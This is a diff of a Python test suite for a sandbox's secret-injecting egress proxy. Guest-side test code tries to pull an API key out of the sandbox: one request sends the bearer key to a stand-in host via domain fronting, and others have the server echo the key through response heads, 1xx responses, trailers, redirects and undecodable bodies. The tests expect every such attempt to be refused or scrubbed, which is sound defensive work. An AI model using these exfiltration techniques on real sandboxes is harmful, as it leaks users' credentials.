@@ -4,9 +4,11 @@ environment, files, responses or the audit log. Vault refs (declaw's `vault_refs
 
 from __future__ import annotations
 
-from pathlib import Path
-from typing import Any, Callable
+from dataclasses import dataclass, field
+from typing import Any, Callable, Optional
+from urllib.parse import quote
 
+import h11
 import pytest
 
 from declaw_wasm import testing
@@ -45,7 +47,8 @@ out["other_host"] = requests.get("https://other.example.com/other", headers=auth
 # a connection opened to other.example.com, asking for api.openai.com: refused
 s = socket.create_connection(("other.example.com", 443))
 t = ssl.create_default_context().wrap_socket(s, server_hostname="other.example.com")
-t.sendall(("GET /fronted HTTP/1.1\\r\\nHost: api.openai.com\\r\\nAuthorization: Bearer " + key + "\\r\\n\\r\\n").encode())
+t.sendall(("GET /fronted HTTP/1.1\\r\\nHost: api.openai.com\\r\\nAuthorization: Bearer " + key
+           + "\\r\\n\\r\\n").encode())
 out["fronting"] = t.recv(65536).decode().split("\\r\\n", 1)[0]
 # TLS for api.openai.com on that connection is refused too (SNI must be its name)
 s2 = socket.create_connection(("other.example.com", 443))
@@ -133,3 +136,177 @@ def test_bad_secret_arguments_are_refused(make: Callable[..., Any]) -> None:
     with pytest.raises(InvalidArgumentException, match="no vault secret"):
         make(vault_refs={"K": "missing"})
     assert "sk-" not in repr(Secret("sk-123", hosts=["x.com"]))
+
+
+# -- echoes: no part of a response hands a secret to the guest ------------------------------------
+
+ECHOED = "sk-live+Abc_123.xyz"  # a valid header name too, so a header named by it can be tried
+SPELLINGS = [ECHOED, quote(ECHOED, safe=""), quote(ECHOED, safe="").lower(), quote(ECHOED)]
+FETCH = PROBE + """
+import os
+key = os.environ["API_KEY"]
+def fetch(scheme, path):
+    s = socket.create_connection(("api.openai.com", 443 if scheme == "https" else 80), timeout=30)
+    if scheme == "https":
+        s = ssl.create_default_context().wrap_socket(s, server_hostname="api.openai.com")
+    s.sendall(("GET " + path + " HTTP/1.1\\r\\nHost: api.openai.com\\r\\nX-Echo: " + key +
+               "\\r\\nAccept-Encoding: gzip, deflate, br, zstd, xyz\\r\\nConnection: close\\r\\n\\r\\n").encode())
+    got, end = b"", "eof"
+    try:
+        while True:
+            data = s.recv(65536)
+            if not data:
+                break
+            got += data[:(1 << 20) - len(got)]  # enough for every answer expected here
+    except OSError as exc:
+        end = type(exc).__name__
+    s.close()
+    return {"raw": got.decode("latin-1"), "end": end}
+out = {"key": key}
+for scheme in ("http", "https"):
+    for place in PLACES:
+        out[scheme + " " + place] = fetch(scheme, "/leak/" + place)
+print(json.dumps(out))
+"""
+
+
+@dataclass
+class Seen:
+    """What the guest received, as an HTTP client parses it."""
+
+    raw: str
+    infos: list[tuple[int, str, list[tuple[str, str]]]] = field(default_factory=list)
+    status: int = 0
+    reason: str = ""
+    headers: list[tuple[str, str]] = field(default_factory=list)
+    body: str = ""
+    trailers: list[tuple[str, str]] = field(default_factory=list)
+    complete: bool = False
+
+    def header(self, name: str) -> Optional[str]:
+        return next((v for k, v in self.headers if k.lower() == name.lower()), None)
+
+    def text(self) -> str:
+        """Everything, the body joined across chunks."""
+        heads = [f"{s} {r} {h}" for s, r, h in self.infos] + [self.reason, str(self.headers), str(self.trailers)]
+        return "\n".join([self.raw, self.body, *heads])
+
+
+def _parse(raw: str) -> Seen:
+    seen = Seen(raw)
+    client = h11.Connection(h11.CLIENT)
+    client.send(h11.Request(method="GET", target="/", headers=[("Host", "api.openai.com")]))
+    client.send(h11.EndOfMessage())
+    client.receive_data(raw.encode("latin-1"))
+    client.receive_data(b"")
+    try:
+        while True:
+            event = client.next_event()
+            if event is h11.NEED_DATA or isinstance(event, h11.ConnectionClosed):
+                return seen
+            if isinstance(event, (h11.InformationalResponse, h11.Response)):
+                head = (event.status_code, event.reason.decode("latin-1"),
+                        [(k.decode("latin-1"), v.decode("latin-1")) for k, v in event.headers.raw_items()])
+                if isinstance(event, h11.InformationalResponse):
+                    seen.infos.append(head)
+                else:
+                    seen.status, seen.reason, seen.headers = head
+            elif isinstance(event, h11.Data):
+                seen.body += bytes(event.data).decode("latin-1")
+            elif isinstance(event, h11.EndOfMessage):
+                seen.trailers = [(k.decode("latin-1"), v.decode("latin-1")) for k, v in event.headers.raw_items()]
+                seen.complete = True
+    except h11.RemoteProtocolError:  # a body cut short
+        return seen
+
+
+def _echoes(make: Callable[..., Any], up: Upstreams, places: list[str]) -> tuple[Any, str, dict[str, Seen]]:
+    """A sandbox with ECHOED as a secret for api.openai.com fetches each `/leak/<place>` over HTTP
+    (from a server that knows the value) and HTTPS (where the host injects it): its placeholder,
+    and what it received, parsed; the value is in none of it, in no spelling."""
+    up.plant(up.http, ECHOED)
+    sbx = make(secrets={"API_KEY": Secret(ECHOED, hosts=["api.openai.com"])})
+    got = outcome(sbx, FETCH.replace("PLACES", repr(places)))
+    key = got.pop("key")
+    seen = {name: _parse(value["raw"]) for name, value in got.items()}
+    for name, result in seen.items():
+        for spelling in SPELLINGS:
+            assert spelling not in result.text(), (name, spelling, result.raw[:3000])
+    injected = [r for r in up.records() if r.path.startswith("/leak/") and r.server == "https"]
+    assert injected and all(r.header("X-Echo") == ECHOED for r in injected)  # echoed what was injected
+    assert all(r.header("X-Echo") == key for r in up.records() if r.server == "http")
+    if testing.is_local(sbx):
+        _nowhere_in(sbx, ECHOED)
+    else:
+        assert ECHOED not in "".join(e.model_dump_json() for e in sbx.audit_events())
+    return sbx, key, seen
+
+
+@pytest.mark.parametrize("mode", ["in-process", "processes"], indirect=True)
+def test_no_response_head_or_trailer_hands_a_secret_to_the_guest(make: Callable[..., Any], up: Upstreams,
+                                                                mode: str) -> None:
+    """The final head (reason, header values and names, Set-Cookie, the body), every 1xx head
+    (100, 102, 103), chunked trailers, an unasked-for 101 upgrade and its raw stream, a redirect's
+    Location: the guest sees the placeholder or nothing, never the value."""
+    sbx, key, seen = _echoes(make, up, ["head", "info", "trailer", "switch", "redirect"])
+    for scheme in ("http", "https"):
+        head = seen[f"{scheme} head"]
+        assert (head.status, head.reason) == (200, "OK " + key)
+        assert head.header("X-Leak") == key and head.header("Set-Cookie") == "k=" + key
+        assert "as-a-name" not in str(head.headers) and head.body == "body " + key
+        info = seen[f"{scheme} info"]
+        assert [(s, r) for s, r, _ in info.infos] == [(100, "Continue " + key), (102, "Processing " + key),
+                                                       (103, "Early Hints " + key)]
+        for _, _, headers in info.infos:
+            assert ("X-Leak", key) in headers and ("Link", f"</style.css?k={key}>; rel=preload") in headers
+            assert "as-a-name" not in str(headers)
+        assert (info.status, info.body, info.complete) == (200, "ok", True)
+        trailer = seen[f"{scheme} trailer"]
+        assert (trailer.status, trailer.body, trailer.complete, trailer.trailers) == (200, "ok", True, [])
+        switch = seen[f"{scheme} switch"]  # upgrades are never relayed: the raw stream never flows
+        assert switch.status == 502 and "the server sent a malformed response" in switch.body
+        assert "raw stream" not in switch.raw
+        redirect = seen[f"{scheme} redirect"]
+        assert redirect.status == 302
+        assert redirect.header("Location") == f"https://api.openai.com/cb?key={key}&raw={key}"
+        assert redirect.header("Content-Location") == f"/x/{key}"
+    refused = [e for e in sbx.audit_events() if e.url.endswith("/leak/switch")]
+    assert len(refused) == 2 and all(e.status_code == 502 and e.decision == "denied" for e in refused)
+
+
+UNDECODABLE = {
+    "unknown": "Content-Encoding 'xyz' is not one the host can decode (it decodes gzip, deflate, br, zstd)",
+    "stacked-unknown": "Content-Encoding 'xyz' is not one the host can decode",
+    "too-deep": "5 Content-Encodings are stacked (the host undoes at most 4)",
+    "corrupt-gzip": "Content-Encoding 'gzip': Error -3 while decompressing data: incorrect header check",
+    "corrupt-deflate": "Content-Encoding 'deflate': Error -3 while decompressing data",
+    "corrupt-br": "Content-Encoding 'br': brotli: decoder failed",
+    "corrupt-zstd": "Content-Encoding 'zstd': Unable to decompress Zstandard data",
+    "zstd-window": "a zstd frame that needs a window over 8 MiB (RFC 9659's limit for HTTP)",
+}
+
+
+@pytest.mark.parametrize("mode", ["in-process", "processes"], indirect=True)
+def test_a_body_the_host_cannot_decode_is_refused_when_secrets_are_on(make: Callable[..., Any],
+                                                                      up: Upstreams, mode: str) -> None:
+    """With secrets on the sandbox, a body the host cannot scrub (an unknown or stacked-unknown
+    Content-Encoding, too many codings, a corrupt gzip, deflate, br or zstd body, a zstd window
+    over the decoder's bound) gets a 502 naming why, audited; one that breaks after its head went
+    out ends the guest's connection short. Without secrets, the same body passes as it came."""
+    sbx, key, seen = _echoes(make, up, [*UNDECODABLE, "corrupt-late"])
+    events = [e for e in sbx.audit_events() if "/leak/" in e.url]
+    for scheme in ("http", "https"):
+        for place, why in UNDECODABLE.items():
+            got = seen[f"{scheme} {place}"]
+            assert got.status == 502 and got.header("X-Declaw-Egress") == "refused", (place, got.raw)
+            assert why in got.body and "with secrets on this sandbox" in got.body, (place, got.body)
+            event = next(e for e in events if e.url == f"{scheme}://api.openai.com/leak/{place}")
+            assert (event.status_code, event.decision) == (502, "denied") and why in event.reason
+        late = seen[f"{scheme} corrupt-late"]  # 256 KiB decoded and passed on, then the break
+        assert late.status == 200 and not late.complete and late.body.startswith("all is well\n")
+        event = next(e for e in events if e.url == f"{scheme}://api.openai.com/leak/corrupt-late")
+        assert event.decision == "denied" and "invalid block type" in event.reason
+    plain = make()  # no secrets: nothing to scrub, the body goes as it came
+    got = outcome(plain, FETCH.replace("PLACES", repr(["unknown"])).replace('os.environ["API_KEY"]', '"-"'))
+    unknown = _parse(got["http unknown"]["raw"])
+    assert (unknown.status, unknown.header("Content-Encoding"), unknown.body) == (200, "xyz", "body " + ECHOED)
